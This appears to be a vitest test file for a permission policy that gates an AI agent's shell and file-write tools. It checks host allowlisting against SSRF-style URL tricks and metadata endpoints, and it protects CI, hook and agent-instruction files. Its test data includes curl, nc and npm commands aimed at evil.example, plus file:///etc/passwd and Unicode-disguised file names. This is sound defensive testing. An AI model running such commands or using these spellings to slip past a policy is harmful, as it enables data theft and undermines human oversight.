import { describe, expect, it } from "vitest";
import { hostMatches, hostOf, whyNear } from "../../src/domain/hosts.ts";
import { defaultPolicy } from "../../src/domain/policy.ts";
import { asked, shell, token } from "./policy-ask.ts";

describe("hosts", () => {
  it("[POL-61] every spelling of a host is one host", () => {
    for (const [address, host] of [
      ["https://API.Example.com.:8443/x", "api.example.com"],
      ["https://b%C3%BCcher.example/", "xn--bcher-kva.example"],
      ["https://bücher.example/", "xn--bcher-kva.example"],
      ["https://ｅｘａｍｐｌｅ。com/", "example.com"],
      ["https://ex%61mple.com/", "example.com"],
      ["ssh://git@Example.com:22/x", "example.com"],
      ["git+https://example.com/x", "example.com"],
      ["example.com:80", "example.com"],
      ["http://2130706433/", "127.0.0.1"],
      ["http://0x7f.1/", "127.0.0.1"],
      ["http://0177.0.0.1/", "127.0.0.1"],
      ["http://127.1/", "127.0.0.1"],
      ["http://[::FFFF:127.0.0.1]/", "[::ffff:7f00:1]"],
      ["https://user:pass@example.com/", "example.com"],
    ] as const)
      expect(hostOf(address), address).toBe(host);
  });
  it("[POL-61] an address that two readers could take for different hosts has none", () => {
    for (const address of [
      "https://good.example\\@evil.example/",
      "https://good.example#@evil.example/",
      "https://good.example?@evil.example/",
      "https://a@good.example@evil.example/",
      "https://good.example\t.evil.example/",
      "https://good .example/",
      "file:///etc/passwd",
      "javascript:alert(1)",
      "https://",
      "",
    ])
      expect(hostOf(address), address).toBe("");
    expect(hostOf("https://registry.example/@scope/name")).toBe("registry.example");
  });
  it("[POL-61] a suffix never opens an address nor a name inside the machine's own network; its own name does", () => {
    for (const host of [
      ...[
        "127.0.0.1",
        "10.1.2.3",
        "172.16.0.1",
        "192.168.1.1",
        "169.254.169.254",
        "100.64.0.1",
        "0.0.0.0",
        "224.0.0.1",
      ],
      ...["[::1]", "[::]", "[fe80::1]", "[fd00:ec2::254]", "[::ffff:a9fe:a9fe]", "[64:ff9b::7f00:1]", "8.8.8.8"],
      ...["localhost", "a.localhost", "metadata.google.internal", "db.internal", "printer.local", "intranet"],
      ...["metadata.goog", "a.metadata.goog", "metadata", "api.metadata.cloud.ibm.com", "a.b.svc", "x.consul"],
    ]) {
      expect(whyNear(host), host).not.toBeNull();
      expect(hostMatches(`.${host.split(".").slice(1).join(".")}`, host), host).toBe(false);
      expect(hostMatches(`.${host}`, host), host).toBe(false);
      expect(hostMatches(host, host), host).toBe(true);
    }
    for (const host of ["example.com", "mymetadata.example", "metadata-store.example", "corp.example", "home.dev"])
      expect(whyNear(host), host).toBeNull();
    expect(hostMatches(".example.com", "a.example.com")).toBe(true);
    expect(hostMatches(".example.com", "example.com")).toBe(true);
    expect(hostMatches(".example.com", "badexample.com")).toBe(false);
    expect(hostMatches("Bücher.example", "xn--bcher-kva.example")).toBe(true);
    expect(hostMatches("gооgle.com", "google.com")).toBe(false);
  });
  it("[POL-61] a shell call's hosts are found in the ways programs take them", () => {
    const open = { token: token({ tools: ["shell_execute"], hosts: ["good.example", ".open.example"] }) };
    for (const command of [
      "curl evil.example",
      "curl -d x=1 -H 'a: b' evil.example/x",
      "curl --url=evil.example",
      "curl -x evil.example:80 https://good.example",
      "curl --connect-to ::evil.example:443 https://good.example",
      "wget -O x evil.example",
      "git clone evil@evil.example:x",
      "git push git+ssh://evil.example/x",
      "ssh -p 22 evil.example ls",
      "scp a evil.example:b",
      "rsync a evil.example::b",
      "nc -v evil.example 80",
      "npm i --registry https://evil.example",
      "npm view https:evil.example/x",
      "npm i x@https:evil.example/x.tgz",
      "npm i git@evil.example:x/y",
      "yarn add x@git+ssh:evil.example/x",
      "npm i github:evil/x",
      "pip install --index-url=https://evil.example x",
      "sudo env A=1 curl evil.example",
    ])
      expect(shell(command, open), command).toBe("deny argument:host-not-allowed");
    for (const command of [
      "curl -o f.html https://good.example/x",
      "curl a.open.example",
      "git show HEAD:a.ts",
      "git push https://good.example/x",
      "echo https://evil.example",
      "git log a@b",
      "scp a b",
      "npm i left-pad@1.0.0 x@npm:y@2 @types/node z@workspace:* ./a file:../b",
    ])
      expect(shell(command, open), command).toMatch(/^ask/);
  });
});

describe("protected files", () => {
  const wide = token({ tools: ["file_write", "shell_execute"], paths: ["**"], commands: ["**", "tee *"] });
  const asks = "ask argument:protected-files";
  it("[POL-62] what takes power later asks, even inside a grant, in any spelling", () => {
    for (const path of [
      ...[".github/workflows/a.yml", ".gitlab-ci.yml", ".circleci/config.yml", "Jenkinsfile", "azure-pipelines.yml"],
      ...[
        ".husky/pre-commit",
        ".githooks/x",
        ".pre-commit-config.yaml",
        "package.json",
        "a/b/package.json",
        "yarn.lock",
      ],
      ...[
        "package-lock.json",
        "Cargo.lock",
        "go.sum",
        "Makefile",
        "x.gradle",
        "setup.py",
        "test/conftest.py",
        "Dockerfile",
      ],
      ...[
        ".npmrc",
        ".envrc",
        ".vscode/tasks.json",
        ".devcontainer/x",
        "AGENTS.md",
        "sub/CLAUDE.md",
        ".claude/settings.json",
      ],
      ...[
        ".cursor/rules/x",
        ".cursorrules",
        ".github/copilot-instructions.md",
        "GEMINI.md",
        "skills/a/SKILL.md",
        ".mcp.json",
      ],
      ...[".countersign/x", ".gitmodules", ".gitattributes", "build.rs", "vitest.config.ts"],
      ...[
        "agents.MD",
        ".GitHub/x",
        "PACKAGE.JSON",
        "./a/../AGENTS.md",
        "/workspace/AGENTS.md",
        "AGENTS.md.",
        "CLAUDE.md ",
      ],
      ...["AGENT\u200bS.md", "ＡGENTS.md", ".git\u00adhub/x"],
    ])
      expect(asked("file_write", { path, content: "" }, { token: wide }), path).toBe(asks);
    for (const path of [
      "src/a.ts",
      "README.md",
      "github/x",
      "package.json.md",
      "docs/agents.txt",
      "src/lock.ts",
      ".gitignore",
    ])
      expect(asked("file_write", { path, content: "" }, { token: wide }), path).toBe("run token");
    expect(asked("file_read", { path: "AGENTS.md" })).toBe("run tool:file_read");
  });
  it("[POL-62] a shell call that writes one asks: redirects, operands, targets, and after a change of directory", () => {
    for (const command of [
      "echo x > .github/a.yml",
      "tee -a AGENTS.md",
      "sed -i p package.json",
      "cp x/CLAUDE.md .",
      "cp -t .husky x",
      "mv package.json x",
      "dd of=.envrc",
      "sudo tee Makefile",
      "git checkout x -- .github/a",
      "curl -o .npmrc good.example",
      "cd .github && tee x",
      "cd x; echo a > b",
      "echo .npmrc | xargs tee",
      "find . -name a -exec cp b {} ';'",
      "rm AGENTS.md",
    ])
      expect(shell(command, { token: { ...wide, allow: { ...wide.allow, hosts: ["good.example"] } } }), command).toBe(
        asks,
      );
    for (const command of ["tee src/a", "echo AGENTS.md", "cat package.json", "cp src/a lib/b", "cd src && ls"])
      expect(shell(command, { token: wide }), command).toBe("run token");
  });
  it("[POL-62] a grant that names the file, or a glob that begins with its folder, opens it; a wide one does not", () => {
    const write = (path: string, ...paths: string[]) =>
      asked("file_write", { path, content: "" }, { token: token({ tools: ["file_write"], paths }) });
    expect(write("package.json", "package.json")).toBe("run token");
    expect(write("a/package.json", "a/package.json")).toBe("run token");
    expect(write(".github/workflows/a.yml", ".github/**")).toBe("run token");
    expect(write(".github/workflows/a.yml", ".github/workflows/*.yml")).toBe("run token");
    expect(write("sub/.claude/x", "sub/.claude/**")).toBe("run token");
    for (const [path, ...paths] of [
      ["package.json", "**", "*", "*.json", "package.*"],
      ["a/package.json", "**/package.json", "a/**", "a/*"],
      [".github/workflows/a.yml", "**", "*/**", ".*/**", "*/workflows/*"],
      ["sub/.claude/x", "sub/**", ".claude/**"],
      ["Package.json", "package.json", "**"],
    ] as const)
      expect(write(path, ...paths), path).toBe(asks);
  });
  it("[POL-62] a block that a person read is named by its bytes, in its own directory only; a scope may protect more", () => {
    const block = "echo x > .github/a.yml";
    const steps = { token: token({ tools: ["shell_execute"] }, [block]) };
    expect(shell(block, steps)).toBe("run token");
    expect(shell(block, steps, { cwd: "src" })).toBe(asks);
    const more = defaultPolicy.arguments.map((rule) =>
      rule.check === "protected_files" ? { ...rule, params: { also: ["db/**"] } } : rule,
    );
    const guarded = (path: string, ...paths: string[]) =>
      asked(
        "file_write",
        { path },
        { token: token({ tools: ["file_write"], paths }) },
        { ...defaultPolicy, arguments: more },
      );
    expect([guarded("db/x", "db/**"), guarded("db/x", "db/x")]).toEqual([asks, "run token"]);
  });
});

describe("opaque commands", () => {
  it("[POL-63] only a grant runs one: where only the policy would, it asks", () => {
    const auto = { ...defaultPolicy, tools: { ...defaultPolicy.tools, shell_execute: "auto_approve" as const } };
    const named = { token: token({ tools: ["shell_execute"], commands: ["npm test"] }) };
    expect(shell("npm test", named)).toBe("run token");
    for (const command of ["npm test", "make", "python3 x.py", "./x", "git -c a.b=c log"])
      expect(asked("shell_execute", { command }, {}, auto), command).toBe("ask argument:shell-not-plain");
    expect(asked("shell_execute", { command: "ls src" }, {}, auto)).toBe("run tool:shell_execute");
  });
});
